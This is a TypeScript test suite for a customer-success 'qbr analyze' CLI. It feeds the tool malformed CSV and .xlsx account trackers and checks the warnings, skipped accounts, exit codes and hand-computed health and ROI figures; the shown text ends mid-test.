/**
 * The bad-input corpus (SPEC §2 "bad input never crashes a run and never silently becomes a number", §6 exit codes).
 * Every case writes a broken tracker (a folder of .csv files or an .xlsx workbook) to a temp dir, runs
 * `qbr analyze --tracker <path> --today 2026-11-22 --json` in-process, and checks: the exit status, the
 * specific finding (tab, 1-based row, header, severity, a key word of the message) and that the good
 * control account GOOD-1 in the same workbook is still analysed with hand-computed values.
 */
import { writeFileSync, mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { analyzeWorkbook } from '../../src/core';
import { TABS, type ColumnSpec, type TabKey } from '../../src/core/tracker/schema';
import { openTracker } from '../../src/workbook/open';
import {
  analyze, runCli, scratch, writeCsvTracker, writeXlsxTracker,
  type AnalyzeResult, type JsonAccount, type JsonFinding, type TestCell, type TestTabs,
} from '../helpers/trackers';

const tmp = scratch('badinput');
afterAll(tmp.cleanup);

type Format = 'csv' | 'xlsx';

async function write(format: Format, tabs: TestTabs): Promise<string> {
  return format === 'csv' ? writeCsvTracker(tmp.path('tracker'), tabs) : writeXlsxTracker(tmp.path('tracker.xlsx'), tabs);
}

// ---------------------------------------------------------------------------------------------------------
// The control account, GOOD-1, present in (almost) every workbook.
//
// Accounts: ARR $120,000 → Enterprise (≥ 100,000, < 500,000) → Quarterly Business Review, deck `enterprise`, 3 months.
//   Last QBR 2026-09-15 + 3 months → next due 2026-12-15, not overdue on 2026-11-22.
//   Renewal 2027-03-31: 22 Nov→22 Dec 30, →22 Jan 31, →22 Feb 31, →22 Mar 28, →31 Mar 9 = 129 days;
//   4 whole months → focus "Value proof and future vision" (3–6 months).
// Metrics 2026-Q4 (begun 2026-10-01 ≤ today): AU 150, Seats 200, FU 12, FA 20, Esc 2, CSAT 4.5, Eng 78, Rel 70.
//   usage   = 0.6·min(100, 100·150/200) + 0.4·(100·12/20) = 0.6·75 + 0.4·60 = 45 + 24 = 69
//   support = (100 − 10·2) · 4.5/5 = 80 · 0.9 = 72
//   health  = 0.35·69 + 0.25·78 + 0.20·72 + 0.20·70 = 24.15 + 19.5 + 14.4 + 14 = 72.05 → 72, Yellow (≥ 50, < 75)
// ---------------------------------------------------------------------------------------------------------
const ACCOUNTS_HEADER = ['Account ID', 'Account', 'ARR', 'Licensed Seats', 'Contract Start', 'Renewal Date', 'Last QBR Date'];
const GOOD_ACCOUNT: TestCell[] = ['GOOD-1', 'Good Co', '$120,000', 200, '2025-01-15', '2027-03-31', '2026-09-15'];
const METRICS_HEADER = ['Account ID', 'Quarter', 'Active Users', 'Licensed Seats', 'Features Used', 'Features Available', 'Escalations', 'CSAT', 'Engagement Score', 'Relationship Score'];
const GOOD_METRICS: TestCell[] = ['GOOD-1', '2026-Q4', 150, 200, 12, 20, 2, 4.5, 78, 70];

/** The Accounts tab: header, GOOD-1 on row 2, then `rows` from row 3 on. */
const accounts = (...rows: TestCell[][]): TestCell[][] => [ACCOUNTS_HEADER, GOOD_ACCOUNT, ...rows];
/** The Metrics tab: header, GOOD-1's 2026-Q4 on row 2, then `rows` from row 3 on. */
const metrics = (...rows: TestCell[][]): TestCell[][] => [METRICS_HEADER, GOOD_METRICS, ...rows];

/** Findings the control may carry: the tabs these workbooks leave out on purpose. */
const EXPECTED_GAPS = [/no Value lines/, /no Metrics row/];

function expectControl(res: AnalyzeResult, withMetrics = true): JsonAccount {
  const good = res.account('GOOD-1');
  expect(good).toMatchObject({
    name: 'Good Co', segment: 'Enterprise', reviewType: 'Quarterly Business Review', deck: 'enterprise',
    nextQbrDue: '2026-12-15', overdue: false,
    renewal: { date: '2027-03-31', daysToRenewal: 129, focus: 'Value proof and future vision' },
  });
  if (withMetrics) {
    expect(good.quarter).toBe('2026-Q4');
    expect(good.health).toEqual({
      score: 72, band: 'Yellow', trend: null,
      dimensions: { usage: 69, engagement: 78, support: 72, relationship: 70 },
      basis: expect.any(Object),
    });
  }
  // Nothing broken elsewhere leaks onto the control account.
  const unexpected = good.findings.filter((f) => !EXPECTED_GAPS.some((re) => re.test(f.message)));
  expect(unexpected).toEqual([]);
  expect(res.json!.skipped.map((s) => s.id)).not.toContain('GOOD-1');
  return good;
}

/**
 * The one finding in `list` at this tab, row and header (and, when given, whose message matches);
 * fails when there is none or more than one.
 */
function findingAt(list: JsonFinding[], tab: string, row: number | null, column: string | null, message?: RegExp): JsonFinding {
  const hits = list.filter((f) => f.tab === tab && f.row === row && f.column === column && (!message || message.test(f.message)));
  if (hits.length !== 1) throw new Error(`expected one finding at ${tab} row ${row} ${column} ${message ?? ''}, got ${hits.length}:\n${JSON.stringify(list, null, 1)}`);
  return hits[0]!;
}

const numberish = /not a number|not an amount|not a percentage/;

// =========================================================================================================
describe('bad Accounts tab', () => {
  it('1. Accounts without the required ARR column: one workbook-level error naming ARR, no accounts, exit 1', async () => {
    const path = await write('csv', {
      Accounts: [['Account ID', 'Account', 'Segment'], ['GOOD-1', 'Good Co', 'Enterprise'], ['X-2', 'X Co', 'SMB']],
    });
    const res = await analyze(path);
    expect(res.code).toBe(1);
    expect(res.json!.accounts).toEqual([]);
    expect(res.json!.skipped).toEqual([]);
    const f = findingAt(res.json!.findings, 'Accounts', 1, null);
    expect(f.severity).toBe('error');
    expect(f.message).toMatch(/"ARR"/);
    expect(f.message).toMatch(/missing required column/);
    // Only ARR is named: Account ID and Account are there.
    expect(f.message).not.toMatch(/Account ID|"Account"/);
  });

  it('2a. an .xlsx with one empty sheet: error "no Accounts tab", exit 1, no crash', async () => {
    const path = await write('xlsx', { Sheet1: [] });
    const res = await analyze(path);
    expect(res.code).toBe(1);
    expect(res.json!.accounts).toEqual([]);
    const f = findingAt(res.json!.findings, 'Accounts', null, null);
    expect(f.severity).toBe('error');
    expect(f.message).toMatch(/no Accounts tab/);
  });

  it('2b. an .xlsx whose Accounts sheet is empty: error naming all three required columns, exit 1', async () => {
    const path = await write('xlsx', { Accounts: [], Metrics: metrics() });
    const res = await analyze(path);
    expect(res.code).toBe(1);
    expect(res.json!.accounts).toEqual([]);
    const f = findingAt(res.json!.findings, 'Accounts', 1, null);
    expect(f.severity).toBe('error');
    expect(f.message).toMatch(/"Account ID", "Account", "ARR"/);
    // The Metrics row cannot be linked to any account: a warning, never a crash.
    const orphan = findingAt(res.json!.findings, 'Metrics', 2, 'Account ID');
    expect(orphan).toMatchObject({ severity: 'warning', value: 'GOOD-1' });
    expect(orphan.message).toMatch(/not in the Accounts tab/);
  });

  it('3. Accounts with only its header row: no accounts, no errors, exit 0 (what exitStatus does: nothing requested was skipped)', async () => {
    const path = await write('csv', { Accounts: [ACCOUNTS_HEADER] });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    expect(res.json).toEqual({ today: '2026-11-22', accounts: [], skipped: [], findings: [] });
  });

  it('4. the same Account ID on two rows: skipped naming both rows, control analysed, exit 1', async () => {
    const path = await write('csv', {
      Accounts: accounts(
        ['DUP-1', 'Dup One', '$50,000', 10, '2026-01-01', '2027-01-01', '2026-06-01'],
        ['DUP-1', 'Dup Again', '$60,000', 10, '2026-01-01', '2027-01-01', '2026-06-01'],
      ),
      Metrics: metrics(['DUP-1', '2026-Q4', 5, 10, 1, 2, 0, 5, 50, 50]),
    });
    const res = await analyze(path);
    expect(res.code).toBe(1);
    expect(res.json!.accounts.map((a) => a.id)).toEqual(['GOOD-1']);
    expect(res.json!.skipped).toHaveLength(1);
    const { id, reason } = res.json!.skipped[0]!;
    expect(id).toBe('DUP-1');
    // The finding is on the second row, names the first, and cites the Account ID column.
    expect(reason).toMatch(/^Accounts row 4, Account ID "DUP-1": /);
    expect(reason).toMatch(/also used on row 3/);
    expectControl(res);
  });

  it('4b. a duplicate that differs only by case and spaces is still a duplicate', async () => {
    const path = await write('csv', {
      Accounts: accounts(
        ['DUP-2', 'Dup Two', '$50,000'],
        [' dup-2 ', 'Dup Lower', '$50,000'],
      ),
      Metrics: metrics(),
    });
    const res = await analyze(path);
    expect(res.code).toBe(1);
    expect(res.json!.skipped).toEqual([{ id: 'DUP-2', reason: expect.stringMatching(/row 4.*also used on row 3/) }]);
    expectControl(res);
  });

  it.each([
    ['TBD-ish', 'csv'], ['abc', 'csv'], ['1e999', 'csv'], ['12,34', 'csv'], ['abc', 'xlsx'],
  ] as const)('5. ARR typed as text %p (%s): error on Accounts/ARR, account skipped, never a number, exit 1', async (arr, format) => {
    const path = await write(format, {
      Accounts: accounts(['TXT-1', 'Texty', arr, 10, '2026-01-01', '2027-01-01', '2026-06-01']),
      Metrics: metrics(['TXT-1', '2026-Q4', 5, 10, 1, 2, 0, 5, 50, 50]),
    });
    const res = await analyze(path);
    expect(res.code).toBe(1);
    expect(res.json!.skipped).toEqual([
      { id: 'TXT-1', reason: `Accounts row 3, ARR "${arr}": ARR is not an amount of money; the account is skipped` },
    ]);
    expect(res.json!.accounts.map((a) => a.id)).toEqual(['GOOD-1']);
    expectControl(res);
  });

  it('5b. ARR as an .xlsx boolean or date cell is not money: skipped', async () => {
    const path = await write('xlsx', {
      Accounts: accounts(['BOOL-1', 'Bool Co', true], ['DATE-9', 'Date Co', new Date(Date.UTC(2026, 0, 5))]),
      Metrics: metrics(),
    });
    const res = await analyze(path);
    expect(res.code).toBe(1);
    expect(res.json!.skipped).toEqual([
      { id: 'BOOL-1', reason: 'Accounts row 3, ARR "TRUE": ARR is not an amount of money; the account is skipped' },
      { id: 'DATE-9', reason: 'Accounts row 4, ARR "2026-01-05": ARR is not an amount of money; the account is skipped' },
    ]);
    expectControl(res);
  });

  it.each(['csv', 'xlsx'] as const)('6. ARR blank (%s): skipped with "no ARR", exit 1', async (format) => {
    const path = await write(format, {
      Accounts: accounts(['BLANK-ARR', 'No Money Inc', null, 10]),
      Metrics: metrics(),
    });
    const res = await analyze(path);
    expect(res.code).toBe(1);
    expect(res.json!.skipped).toEqual([{ id: 'BLANK-ARR', reason: 'Accounts row 3, ARR: no ARR; the account is skipped' }]);
    expectControl(res);
  });

  it('6b. ARR `N/A` or `-` is missing (not 0 → Tech-Touch): skipped with "no ARR"', async () => {
    const path = await write('csv', {
      Accounts: accounts(['NA-ARR', 'Na Co', 'N/A'], ['DASH-ARR', 'Dash Co', '-'], ['ERR-ARR', 'Err Co', '#REF!']),
      Metrics: metrics(),
    });
    const res = await analyze(path);
    expect(res.code).toBe(1);
    expect(res.json!.skipped).toEqual([
      { id: 'NA-ARR', reason: 'Accounts row 3, ARR: no ARR; the account is skipped' },
      { id: 'DASH-ARR', reason: 'Accounts row 4, ARR: no ARR; the account is skipped' },
      { id: 'ERR-ARR', reason: 'Accounts row 5, ARR: no ARR; the account is skipped' },
    ]);
    expectControl(res);
  });

  it('7. Account name blank: skipped with "no Account", exit 1', async () => {
    const path = await write('csv', {
      Accounts: accounts(['NONAME-1', '', '$40,000'], ['NONAME-2', '   ', '$40,000']),
      Metrics: metrics(),
    });
    const res = await analyze(path);
    expect(res.code).toBe(1);
    expect(res.json!.skipped).toEqual([
      { id: 'NONAME-1', reason: 'Accounts row 3, Account: no Account; the account is skipped' },
      { id: 'NONAME-2', reason: 'Accounts row 4, Account: no Account; the account is skipped' },
    ]);
    expectControl(res);
  });

  it('7b. a row with a name and ARR but no Account ID: a workbook-level warning, nothing to skip, exit 0', async () => {
    const path = await write('csv', { Accounts: accounts(['', 'Orphan Co', '$40,000']), Metrics: metrics() });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    expect(res.json!.skipped).toEqual([]);
    const f = findingAt(res.json!.findings, 'Accounts', 3, 'Account ID');
    expect(f.severity).toBe('warning');
    expect(f.message).toMatch(/no Account ID; the row is skipped/);
    expect(res.json!.accounts.map((a) => a.id)).toEqual(['GOOD-1']);
    expectControl(res);
  });

  it('12. impossible dates: warnings on Accounts/Renewal Date and Last QBR Date; renewal null; due from Contract Start', async () => {
    // ARR $150,000 → Enterprise, cadence 3: Contract Start 2026-01-10 + 3 months = 2026-04-10 < today, no QBR Date → overdue.
    const path = await write('csv', {
      Accounts: accounts(['DATE-1', 'Dateless', '$150,000', 50, '2026-01-10', '2026-02-30', '13/13/2026']),
      Metrics: metrics(),
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    const a = res.account('DATE-1');
    expect(a.renewal).toEqual({ date: null, daysToRenewal: null, focus: null });
    expect(a.nextQbrDue).toBe('2026-04-10');
    expect(a.overdue).toBe(true);
    const renewal = a.findings.filter((f) => f.tab === 'Accounts' && f.row === 3 && f.column === 'Renewal Date');
    // One finding per cell: the unreadable date, not a second "no Renewal Date" about the same cell.
    expect(renewal.map((f) => [f.severity, f.value, f.message])).toEqual([
      ['warning', '2026-02-30', 'not a date (2026-02-30 does not exist)'],
    ]);
    const last = findingAt(a.findings, 'Accounts', 3, 'Last QBR Date');
    expect(last).toMatchObject({ severity: 'warning', value: '13/13/2026', message: expect.stringMatching(/not a date/) });
    expectControl(res);
  });

  it('26. an unknown Segment cell: warning, segment from ARR', async () => {
    const path = await write('csv', {
      Accounts: [[...ACCOUNTS_HEADER, 'Segment'], [...GOOD_ACCOUNT, ''], ['SEG-1', 'Seg Co', '$30,000', 10, '2026-01-01', '2027-06-01', '2026-09-01', 'Platinum']],
      Metrics: metrics(),
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    const a = res.account('SEG-1');
    // $30,000 ≥ 25,000 → Mid-Market, cadence 6: 2026-09-01 + 6 months = 2027-03-01.
    expect(a).toMatchObject({ segment: 'Mid-Market', deck: 'midmarket', nextQbrDue: '2027-03-01' });
    expect(findingAt(a.findings, 'Accounts', 3, 'Segment')).toMatchObject({ severity: 'warning', value: 'Platinum', message: expect.stringMatching(/unknown segment/) });
    expectControl(res);
  });

  it('27. the Accounts header twice (ARR, ARR): warning on the header row, the first column read', async () => {
    const path = await write('csv', {
      Accounts: [['Account ID', 'Account', 'ARR', 'ARR'], ['TWO-ARR', 'Two', '$600,000', '$1,000']],
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    expect(findingAt(res.json!.findings, 'Accounts', 1, 'ARR')).toMatchObject({ severity: 'warning', message: expect.stringMatching(/appears twice/) });
    expect(res.account('TWO-ARR').segment).toBe('Strategic'); // $600,000 ≥ 500,000
  });

  it('28. two tabs both named like Accounts: warning, only the first (by file order) is read', async () => {
    const dir = tmp.path('tracker');
    writeCsvTracker(dir, { ACCOUNTS: [ACCOUNTS_HEADER, ['OTHER-1', 'Other', '$10,000']], Accounts: accounts(), Metrics: metrics() });
    const res = await analyze(dir);
    expect(res.code).toBe(0);
    // Files are read in name order: "ACCOUNTS.csv" < "Accounts.csv".
    expect(res.json!.accounts.map((a) => a.id)).toEqual(['OTHER-1']);
    expect(findingAt(res.json!.findings, 'Accounts', null, null)).toMatchObject({ severity: 'warning', message: expect.stringMatching(/second tab named like "Accounts"/) });
    // GOOD-1's Metrics row is then unlinked.
    expect(findingAt(res.json!.findings, 'Metrics', 2, 'Account ID')).toMatchObject({ value: 'GOOD-1', severity: 'warning' });
  });
});

// =========================================================================================================
describe('rows that name unknown accounts', () => {
  it('8. unknown Account ID in Metrics, Risks and Actions: workbook-level warnings, its bad cells not reported, exit 0', async () => {
    const path = await write('csv', {
      Accounts: accounts(),
      Metrics: metrics(['GHOST-9', '2026-Q4', 'lots', 10, 1, 2, 0, 5, 50, 50]),
      Risks: [['Account ID', 'Risk', 'Likelihood', 'Impact'], ['GHOST-9', 'Ghost risk', 'H', 'H']],
      // GOOD-1: A-2 Complete, A-3 open and due 2026-10-01 < today → Overdue; both linked to the Last QBR 2026-09-15
      // → completion 1 ÷ 2 = 0.5, Yellow (≥ 50 %).
      Actions: [
        ['Action ID', 'Account ID', 'Action', 'Owner', 'Due Date', 'Status', 'Linked To'],
        ['A-1', 'NOPE-2', 'Ghost action', 'Pat', '2026-12-01', 'Open', ''],
        ['A-2', 'GOOD-1', 'Send report', 'Sam', '2026-10-01', 'Complete', '2026-09-15'],
        ['A-3', 'GOOD-1', 'Book training', 'Sam', '2026-10-01', 'Open', '9/15/2026'],
      ],
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    const wb = res.json!.findings;
    expect(findingAt(wb, 'Metrics', 3, 'Account ID')).toMatchObject({ value: 'GHOST-9', severity: 'warning', message: expect.stringMatching(/not in the Accounts tab/) });
    expect(findingAt(wb, 'Risks', 2, 'Account ID')).toMatchObject({ value: 'GHOST-9', severity: 'warning', message: expect.stringMatching(/not in the Accounts tab/) });
    expect(findingAt(wb, 'Actions', 2, 'Account ID')).toMatchObject({ value: 'NOPE-2', severity: 'warning', message: expect.stringMatching(/not in the Accounts tab/) });
    expect(wb).toHaveLength(3); // the ghost row's "lots" is not reported: the row is skipped whole
    const good = expectControl(res);
    expect(good.actions).toEqual({ completionRate: 0.5, band: 'Yellow', overdue: ['A-3'], basis: 'last-qbr' });
    expect(good.risks).toEqual([]);
  });

  it('29. the same ID in other tabs with other case and spaces links to the account (no warning)', async () => {
    const path = await write('csv', {
      Accounts: accounts(),
      Metrics: [METRICS_HEADER, [' good-1 ', ...GOOD_METRICS.slice(1)]],
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    expect(res.json!.findings).toEqual([]);
    expectControl(res);
  });
});

// =========================================================================================================
describe('bad cells in Metrics', () => {
  it.each(['csv', 'xlsx'] as const)('9. text in a number column (Active Users "lots", %s): warning, value null, usage from features alone', async (format) => {
    // AU-1: $60,000 → Mid-Market. Metrics: AU "lots" (→ null), Seats 100, FU 10, FA 20, Esc 1, CSAT 4, Eng 60, Rel 80.
    //   usage   = feature adoption alone = 100·10/20 = 50   (had "lots" become 0: 0.6·0 + 0.4·50 = 20)
    //   support = (100 − 10)·4/5 = 72
    //   health  = 0.35·50 + 0.25·60 + 0.2·72 + 0.2·80 = 17.5 + 15 + 14.4 + 16 = 62.9 → 63, Yellow
    const path = await write(format, {
      Accounts: accounts(['AU-1', 'Au Co', '$60,000', 100, '2026-01-10', '2027-12-31', '2026-06-01']),
      Metrics: metrics(['AU-1', '2026-Q4', 'lots', 100, 10, 20, 1, 4, 60, 80]),
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    const a = res.account('AU-1');
    expect(findingAt(a.findings, 'Metrics', 3, 'Active Users')).toEqual({
      tab: 'Metrics', row: 3, column: 'Active Users', value: 'lots', message: 'not a number', severity: 'warning',
    });
    expect(a.trends.activeUsers!.current).toBeNull();
    expect(a.health).toMatchObject({ score: 63, band: 'Yellow', dimensions: { usage: 50, engagement: 60, support: 72, relationship: 80 } });
    expectControl(res);
  });

  const ERR_METRICS = (au: TestCell, fu: TestCell, esc: TestCell): TestCell[] => ['ERR-1', '2026-Q4', au, 100, fu, 20, esc, 5, 70, 60];
  // ERR-1: $80,000 → Mid-Market. AU, FU and Escalations are error cells → missing; CSAT 5, Eng 70, Rel 60.
  //   usage   = null (no seat ratio, no feature ratio)
  //   support = CSAT alone = 100·5/5 = 100
  //   health  = (0.25·70 + 0.2·100 + 0.2·60) / 0.65 = 49.5 / 0.65 = 76.15 → 76, Green
  //   (had the errors become 0: usage 0, support 100 → 0 + 17.5 + 20 + 12 = 49.5 → 50 Yellow)
  const expectErrorsMissing = (res: AnalyzeResult) => {
    expect(res.code).toBe(0);
    const a = res.account('ERR-1');
    expect(a.health).toMatchObject({ score: 76, band: 'Green', dimensions: { usage: null, engagement: 70, support: 100, relationship: 60 } });
    expect(a.trends.activeUsers!.current).toBeNull();
    expect(a.trends.featuresUsed!.current).toBeNull();
    expect(a.trends.escalations!.current).toBeNull();
    expect(a.findings.filter((f) => numberish.test(f.message))).toEqual([]);
    expect(a.findings.filter((f) => f.tab === 'Metrics' && f.row === 3)).toEqual([]);
    expectControl(res);
  };

  it('10a. real .xlsx error cells #REF!, #N/A, #DIV/0! are missing, not 0, and not "not a number"', async () => {
    const path = await write('xlsx', {
      Accounts: accounts(['ERR-1', 'Err Co', '$80,000', 100, '2026-01-10', '2027-12-31', '2026-06-01']),
      Metrics: metrics(ERR_METRICS({ error: '#REF!' }, { error: '#N/A' }, { error: '#DIV/0!' })),
    });
    expectErrorsMissing(await analyze(path));
  });

  it('10b. the same error values as CSV text are missing too', async () => {
    const path = await write('csv', {
      Accounts: accounts(['ERR-1', 'Err Co', '$80,000', 100, '2026-01-10', '2027-12-31', '2026-06-01']),
      Metrics: metrics(ERR_METRICS('#REF!', '#N/A', '#DIV/0!')),
    });
    expectErrorsMissing(await analyze(path));
  });

  it('10c. a formula cell with an error result (.xlsx) is missing too', async () => {
    const path = await write('xlsx', {
      Accounts: accounts(['ERR-1', 'Err Co', '$80,000', 100, '2026-01-10', '2027-12-31', '2026-06-01']),
      Metrics: metrics(ERR_METRICS(
        { formula: 'D3/0', result: { error: '#DIV/0!' } },
        { formula: 'VLOOKUP("x",Z1:Z2,1,FALSE)', result: { error: '#N/A' } },
        { formula: 'Sheet9!A1', result: { error: '#REF!' } },
      )),
    });
    expectErrorsMissing(await analyze(path));
  });

  it('11. `N/A`, `n/a`, `-` and `—` in numeric cells are missing, not 0', async () => {
    // NA-1: $30,000 → Mid-Market; Accounts Licensed Seats "N/A". Metrics: AU "N/A", Seats "-", FU 15, FA 20,
    //   Esc "n/a", CSAT "—", Eng 80, Rel 90.
    //   usage   = feature adoption alone = 100·15/20 = 75 (no seats anywhere → no seat ratio)
    //   support = null (both inputs missing)
    //   health  = (0.35·75 + 0.25·80 + 0.2·90) / 0.8 = (26.25 + 20 + 18) / 0.8 = 80.3125 → 80, Green
    const path = await write('csv', {
      Accounts: accounts(['NA-1', 'Na Co', '$30,000', 'N/A', '2026-01-10', '2027-12-31', '2026-06-01']),
      Metrics: metrics(['NA-1', '2026-Q4', 'N/A', '-', 15, 20, 'n/a', '—', 80, 90]),
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    const a = res.account('NA-1');
    expect(a.health).toMatchObject({ score: 80, band: 'Green', dimensions: { usage: 75, engagement: 80, support: null, relationship: 90 } });
    expect(a.trends.activeUsers!.current).toBeNull();
    expect(a.trends.licensedSeats!.current).toBeNull();
    expect(a.trends.escalations!.current).toBeNull();
    expect(a.trends.csat!.current).toBeNull();
    expect(a.findings.filter((f) => f.tab === 'Metrics' || f.tab === 'Accounts')).toEqual([]);
    expectControl(res);
  });

  it.each([['Quarter 5'], ['Q5 2026'], ['next quarter']])('13. a bad quarter %p: that Metrics row skipped with a warning, the rest analysed', async (quarter) => {
    // Q-BAD row 4 (2026-Q4): AU 80, Seats 100, FU 8, FA 10, Esc 0, CSAT 5, Eng 80, Rel 90.
    //   usage = 0.6·80 + 0.4·80 = 80; support = 100·5/5 = 100
    //   health = 0.35·80 + 0.25·80 + 0.2·100 + 0.2·90 = 28 + 20 + 20 + 18 = 86 → Green
    // (the skipped row's worse numbers must not be read: they would give usage 6, support 0)
    const path = await write('csv', {
      Accounts: accounts(['Q-BAD', 'Quarterly', '$20,000', 100, '2026-01-10', '2027-12-31', '2026-06-01']),
      Metrics: metrics(['Q-BAD', quarter, 5, 100, 1, 10, 10, 1, 5, 5], ['Q-BAD', '2026-Q4', 80, 100, 8, 10, 0, 5, 80, 90]),
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    const a = res.account('Q-BAD');
    expect(a.segment).toBe('SMB'); // $20,000 ≥ 5,000
    const f = findingAt(a.findings, 'Metrics', 3, 'Quarter');
    expect(f).toMatchObject({ severity: 'warning', value: quarter });
    expect(f.message).toMatch(/not a quarter/);
    expect(f.message).toMatch(/skipped/);
    expect(a.quarter).toBe('2026-Q4');
    expect(a.health).toMatchObject({ score: 86, band: 'Green', dimensions: { usage: 80, engagement: 80, support: 100, relationship: 90 } });
    expectControl(res);
  });

  it('13b. a Metrics row for a quarter that has not begun is ignored; the current quarter stays 2026-Q4', async () => {
    const path = await write('csv', {
      Accounts: accounts(),
      Metrics: metrics(['GOOD-1', '2027-Q1', 1, 200, 1, 20, 9, 1, 1, 1]),
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    expectControl(res);
  });

  it('30. out-of-range numbers (CSAT 9, Escalations -1, Usage Score 150) are named and not used', async () => {
    // RANGE-1: Usage Score 150 rejected → usage derived: 0.6·min(100, 100·50/50) + 0.4·(100·5/10) = 60 + 20 = 80.
    //   CSAT 9 and Escalations −1 both rejected → support null.
    //   health = (0.35·80 + 0.25·60 + 0.2·40) / 0.8 = (28 + 15 + 8) / 0.8 = 63.75 → 64, Yellow
    const header = [...METRICS_HEADER, 'Usage Score'];
    const path = await write('csv', {
      Accounts: accounts(['RANGE-1', 'Range Co', '$20,000', 50, '2026-01-10', '2027-12-31', '2026-06-01']),
      Metrics: [header, [...GOOD_METRICS, ''], ['RANGE-1', '2026-Q4', 50, 50, 5, 10, -1, 9, 60, 40, 150]],
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    const a = res.account('RANGE-1');
    expect(a.health).toMatchObject({ score: 64, band: 'Yellow', dimensions: { usage: 80, engagement: 60, support: null, relationship: 40 } });
    expect(findingAt(a.findings, 'Metrics', 3, 'CSAT')).toMatchObject({ severity: 'warning', value: '9', message: expect.stringMatching(/1–5 scale/) });
    expect(findingAt(a.findings, 'Metrics', 3, 'Escalations')).toMatchObject({ severity: 'warning', value: '-1', message: expect.stringMatching(/cannot be negative/) });
    expect(findingAt(a.findings, 'Metrics', 3, 'Usage Score')).toMatchObject({ severity: 'warning', value: '150', message: expect.stringMatching(/between 0 and 100/) });
    expectControl(res);
  });

  it('31. Metrics without its required Quarter column: tab-level error, accounts still analysed without health, exit 0', async () => {
    const path = await write('csv', {
      Accounts: accounts(),
      Metrics: [['Account ID', 'Active Users'], ['GOOD-1', 150]],
    });
    const res = await analyze(path);
    expect(res.code).toBe(0);
    expect(findingAt(res.json!.findings, 'Metrics', 1, null)).toMatchObject({ severity: 'error', message: expect.stringMatching(/"Quarter"/) });
    const good = expectControl(res, false);
    expect(good.health.score).toBeNull();
  });
});

// =========================================================================================================
describe('bad Value, Outcomes, Risks, Opportunities and Settings rows', () => {
  const VALUE_HEADER = ['Account ID', 'Quarter', 'Category', 'Description', 'Quantity', 'Rate', 'Baseline', 'Current', 'Value', 'Source'];
  // VAL-1: $200,000 → Enterprise; investment = 200,000 / 4 = 50,000. Quarter = the book's 2026-Q4 (VAL-1 has no Metrics).
  //   row 2  Time Savings   100 h × $80              =  8,000
  //   row 3  "Synergy", no Value                     →  null (unknown category), excluded
  //   row 4  Cost Reduction $50,000 − $38,000        = 12,000 (no Source → warning)
  //   row 5  2026-Q3 line                            →  not this quarter, excluded
  //   row 6  Risk Avoidance 2 × $5,000, Value "N/A"  = 10,000 (computed, N/A is missing, not an override of 0)
  //   total 30,000; ROI 30,000 / 50,000 = 0.6; annualised 120,000
  const valueBook = () => write('csv', {
    Accounts: accounts(['VAL-1', 'Valued', '$200,000', 100, '2026-01-10', '2027-12-31', '2026-09-01']),
    Metrics: metrics(),
    Value: [
      VALUE_HEADER,
      ['VAL-1', '2026-Q4', 'Time Savings', 'Automated reports', 100, '$80', '', '', '', 'Timesheets'],
      ['VAL-1', '2026-Q4', 'Synergy', 'Vibes', '', '', '', '', '', 'CSM estimate'],
      ['VAL-1', '2026-Q4', 'Cost Reduction', 'Infra', '', '', '$50,000', '$38,000', '', ''],
      ['VAL-1', '2026-Q3', 'Time Savings', 'Last quarter', 1000, '$80', '', '', '', 'Timesheets'],
      ['VAL-1', 'Q4 2026', 'Risk Avoidance', 'Outages avoided', 2, '$5,000', '', '', 'N/A', 'Incident log'],
    ],
  });

  it('14. a Value line with an unknown Category and no Value: warning, value null, excluded from the total', async () => {
    const res = await analyze(await valueBook());
    expect(res.code).toBe(0);
    const a = res.account('VAL-1');
    expect(findingAt(a.findings, 'Value', 3, 'Category')).toMatchObject({ severity: 'warning', value: 'Synergy', message: expect.stringMatching(/unknown value category/) });
    expect(a.value.lines.map((l) => [l.category, l.value, l.asReported])).toEqual([
      ['Time Savings', 8000, false],
      ['Synergy', null, false],
      ['Cost Reduction', 12000, false],
      ['Risk Avoidance', 10000, false],
    ]);
    expect(a.value).toMatchObject({ quarterTotal: 30000, investment: 50000, annualised: 120000 });
    expect(a.value.roi).toBeCloseTo(0.6, 12);
    expectControl(res);
  });

  it('15. a Value line without a Source: warning on Value/Source, the value still counted', async () => {
    const res = await analyze(await valueBook());
    const a = res.account('VAL-1');
    const f = findingAt(a.findings, 'Value', 4, 'Source');
    expect(f).toMatchObject({ severity: 'warning', value: null });
    expect(f.message).toMatch(/no Source/);
    expect(a.findings.filter((x) => x.column === 'Source').map((x) => x.row)).toEqual([4]);
    expectControl(res);
  });

  it('15b. Value text in money columns ("lots" Quantity) is a warning and the line is null, never 0', async () => {
    const path = await write('csv', {
      Accounts: accounts(['VAL-2', 'Lots Co', '$40,000']),
      Metrics: metrics(),
      Value: [VALUE_HEADER, ['VAL-2', '2026-Q4', 'Time Savings', 'Hours', 'lots', '$80', '', '', '', 'Timesheets']],
    });
    const res = await analyze(path);
    const a = res.account('VAL-2');
    expect(findingAt(a.findings, 'Value', 2, 'Quantity', /not a number/)).toMatchObject({ severity: 'warning', value: 'lots' });
    expect(a.value).toMatchObject({ quarterTotal: null, roi: null, annualised: null, investment: 10000 });
    expect(a.value.lines[0]!.value).toBeNull();
    expectControl(res);
  });

  it('16. an Outcome with Target = Baseline: progress null, warning on Outcomes/Target; the other outcome still computed', async () => {
    // "Grow adoption": (64% − 40%) / (80% − 40%) = 0.24 / 0.40 = 0.6 → At Risk (< 0.7).
    const path = await write('csv', {
      Accounts: accounts(['OUT-1', 'Outcome Co', '$90,000']),
      Metrics: metrics(),
      Outcomes: [
        ['Account ID', 'Objective', 'Metric', 'Baseline', 'Target', 'Current', 'Direction', 'Source'],
        ['OUT-1', 'Cut backlog', 'Open tickets', 120, 120, 90, 'lower', 'Zendesk'],
